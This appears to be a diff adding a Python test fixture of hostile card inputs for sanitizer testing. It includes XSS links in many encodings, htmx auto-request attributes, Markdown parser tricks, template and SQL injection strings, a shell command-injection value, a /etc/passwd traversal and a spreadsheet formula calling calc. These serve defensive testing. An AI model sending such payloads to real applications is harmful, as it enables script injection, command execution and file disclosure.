@@ -1,0 +1,140 @@
+"""What a stranger may write into a card: links, Markdown tricks, htmx, templates, odd characters."""
+
+from __future__ import annotations
+
+from tests.support.hostile_html import FOREIGN_MARKUP, SCRIPTS
+
+#: Links whose address is no web address, however it is spelt.
+LINKS = [
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](javascript&colon;alert(1))",
+    "[click](javascript&#58;alert(1))",
+    "[click](javascript&#x3A;alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](java&Tab;script:alert(1))",
+    "[click](java&NewLine;script:alert(1))",
+    "[click](<java\tscript:alert(1)>)",
+    "[click](<\x20javascript:alert(1)>)",
+    "[click](&#1;javascript:alert(1))",
+    "[click](\\javascript:alert(1))",
+    "[click](javascript\\:alert(1))",
+    "[click](%6Aavascript:alert(1))",
+    "[click](javascript%3Aalert(1))",
+    "[click](javascript://evil.example/%0Aalert(1))",
+    "[click](//javascript:alert(1))",
+    "[click](vbscript:msgbox(1))",
+    "[click](livescript:alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](DATA:image/svg+xml,<svg/onload=alert(1)>)",
+    "[click](blob:http://127.0.0.1/x)",
+    "[click](file:///etc/passwd)",
+    "[click](view-source:javascript:alert(1))",
+    "[click](jar:javascript:alert(1)!/)",
+    "[click](feed:javascript:alert(1))",
+    "[click](intent://evil.example#Intent;scheme=http;end)",
+    "[click](ｊavascript:alert(1))",
+    "[click](javascript:alert(1) 'a title')",
+    "[click](https://evil.example 'x\" onmouseover=\"alert(1)')",
+    '[click](https://evil.example/"onmouseover="alert(1))',
+    "[click](https://evil.example/'><script>alert(1)</script>)",
+    "[click][ref] and [ref]: javascript:alert(1)",
+    "[ref]: <javascript:alert(1)> 'x'",
+    "<javascript:alert(1)>",
+    "<data:text/html,<script>alert(1)</script>>",
+    "<https://evil.example/'onmouseover='alert(1)>",
+    "![pixel](//evil.example/p.png)",
+    "![pixel](javascript:alert(1))",
+    "![pixel](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](x \"' onerror='alert(1)\")",
+    '![x" onerror="alert(1)](x)',
+    "[![nested](//evil.example/p.png)](javascript:alert(1))",
+    "[](javascript:alert(1))",
+    "[a](javascript:alert(1)) [b](https://evil.example) [c](mailto:a@evil.example?bcc=b)",
+]
+
+#: Attributes that htmx acts upon; with its script on the page they need no script of their own.
+HTMX = [
+    "<div hx-get=/pwned hx-trigger=load>x</div>",
+    "<div hx-post=/review/retractions hx-trigger=load hx-vals='{\"entry\":1}'>x</div>",
+    "<div hx-delete=/pwned hx-trigger='every 1s'>x</div>",
+    "<div data-hx-get=//evil.example data-hx-trigger=load>x</div>",
+    "<div hx-on:load=alert(1) hx-on--load=alert(1)>x</div>",
+    "<div hx-on::after-settle=alert(1) hx-trigger=revealed hx-get=/>x</div>",
+    "<div hx-get=/ hx-trigger='load[alert(1)]'>x</div>",
+    "<div hx-get=/ hx-trigger=load hx-vals='js:{a:alert(1)}'>x</div>",
+    "<div hx-get=/ hx-trigger=load hx-headers='javascript:{a:alert(1)}'>x</div>",
+    "<div hx-get=/ hx-trigger=load hx-request='js:{timeout:alert(1)}'>x</div>",
+    "<a hx-boost=true href=/pwned hx-target=body hx-trigger=load>x</a>",
+    "<div hx-ext=remove-me hx-preserve id=card hx-swap-oob=true>x</div>",
+    "<body hx-disinherit=* hx-inherit=*><div hx-sse=connect:/pwned hx-ws=connect:/pwned>x</div>",
+    "<span class='htmx-request' hx-indicator=body hx-confirm=really hx-prompt=really>x</span>",
+    "<form hx-put=/pwned hx-trigger=load hx-include=body hx-push-url=true><input name=a></form>",
+]
+
+#: Markdown that parsers have been fooled by, and text that is long or deep.
+MARKDOWN = [
+    "**<img src=x onerror=alert(1)>** _<svg onload=alert(1)>_ ~~<script>alert(1)</script>~~",
+    "==<script>alert(1)</script>==",
+    "==[x](javascript:alert(1))==",
+    "`</code><script>alert(1)</script>`",
+    "``` ` `` <img src=x onerror=alert(1)>",
+    "\\<script>alert(1)\\</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "&#00060script&#00062alert(1)",
+    "<<script>script>alert(1)<</script>/script>",
+    "a <b\\><script>alert(1)</script>",
+    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
+    "[x](<javascript:alert(1)\\>>)",
+    "[a](<b)c>(javascript:alert(1))",
+    "*" * 500 + "a" + "*" * 500,
+    "[" * 300 + "a" + "](x)" * 300,
+    "> " * 60 + "deep",
+    "`" * 400 + "a",
+    "<" * 700,
+    "&" * 700 + "lt;",
+    "![" * 200 + "x",
+    "a" * 1500,
+    "==" * 400,
+    "~~" * 400 + "x",
+    "\\" * 500 + "<b>",
+]
+
+#: Words that mean something to a template engine, a format string, a shell, SQL or a spreadsheet.
+TEMPLATES = [
+    "{{7*7}}",
+    "{{ config }} {{ self.__init__.__globals__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{# hidden #} {%- raw -%}",
+    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {7*7} %(a)s %s {0.__class__}",
+    "'; DROP TABLE reviews; --",
+    "=cmd|' /C calc'!A0",
+    "$(touch /tmp/pwned) `id` ; id | id",
+    "../../../../etc/passwd",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    '{"$html": "<script>alert(1)</script>"}',
+]
+
+#: Characters that hide, turn or break text; many of them a deck must refuse.
+CHARACTERS = [
+    "nul \x00 <scr\x00ipt>alert(1)</scr\x00ipt>",
+    "backspace \x08 escape \x1b[31m form feed \x0c",
+    "right to left \u202e gnp.live \u202c",
+    "isolated \u2066 left \u2069 marks \u200e\u200f",
+    "zero \u200b width \u200d joined \ufeff bom",
+    "line \u2028 separator \u2029 here",
+    "fullwidth ＜script＞alert(1)＜/script＞",
+    "homoglyph јavascript:alert(1)",
+    "combining Z\u0351\u036b\u0343\u036a\u0302 " + "\u0301" * 200,
+    "not a character \ufffe \uffff",
+    "utf-7 +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "overlong \xc0\xbcscript\xc0\xbe",
+    "c1 \x80 \x9b \x85",
+]
+
+VECTORS = [*SCRIPTS, *FOREIGN_MARKUP, *LINKS, *HTMX, *MARKDOWN, *TEMPLATES, *CHARACTERS]
